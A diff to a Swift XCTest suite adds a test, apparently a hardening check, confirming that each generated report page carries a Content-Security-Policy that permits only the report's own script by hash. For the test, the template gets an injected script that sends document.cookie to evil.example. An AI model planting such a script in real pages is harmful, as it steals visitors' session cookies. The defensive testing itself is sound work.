@@ -333,6 +333,41 @@ final class ReportTests: XCTestCase {
         XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("site").path))
     }
 
+    /// Hardening finding 8: every page carries a Content-Security-Policy, put first in its head
+    /// by accessctl, that allows the report's own script by its hash and nothing else; a
+    /// script added to a template is published but cannot run.
+    func testEveryPageAllowsOnlyTheReportsOwnScript() throws {
+        let templates = work.appendingPathComponent("mine")
+        try FileManager.default.copyItem(at: TestSupport.repositoryRoot.appendingPathComponent("templates"), to: templates)
+        let layout = templates.appendingPathComponent("layout.mustache")
+        try (try String(contentsOf: layout, encoding: .utf8)).replacingOccurrences(of: "</body>", with: "<script>fetch('https://evil.example/?'+document.cookie)</script>\n</body>")
+            .write(to: layout, atomically: true, encoding: .utf8)
+        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"]).exitCode, 0)
+        let pages = try files("site").filter { $0.key.hasSuffix(".html") }
+        XCTAssertGreaterThan(pages.count, 20)
+        for (path, data) in pages {
+            let text = String(decoding: data, as: UTF8.self)
+            let head = try XCTUnwrap(text.range(of: "<head>\n<meta http-equiv=\"Content-Security-Policy\" content=\""), path)
+            let policy = String(text[head.upperBound...].prefix { $0 != "\"" })
+            let allowed = policy.components(separatedBy: "'sha256-").dropFirst().map { String($0.prefix { $0 != "'" }) }
+            // Hash each script of the page independently: only the report's own is allowed.
+            var scripts: [String] = []
+            var rest = text[...]
+            while let open = rest.range(of: "<script>"), let close = rest.range(of: "</script>", range: open.upperBound..<rest.endIndex) {
+                scripts.append(String(rest[open.upperBound..<close.lowerBound]))
+                rest = rest[close.upperBound...]
+            }
+            XCTAssertEqual(scripts.count, 2, path)
+            let hashes = scripts.map { script -> String in
+                var hasher = SHA256()
+                hasher.update(Array(script.utf8))
+                return Data(hasher.finalize()).base64EncodedString()
+            }
+            XCTAssertEqual(allowed, [hashes[0]], "\(path): the report's own script, and only it")
+            XCTAssertTrue(policy.hasPrefix("default-src 'none'; style-src 'self';"), policy)
+        }
+    }
+
     func testTemplateThatUnescapesManifestTextFailsAndWritesNothing() throws {
         let templates = work.appendingPathComponent("mine")
         try FileManager.default.copyItem(at: TestSupport.repositoryRoot.appendingPathComponent("templates"), to: templates)
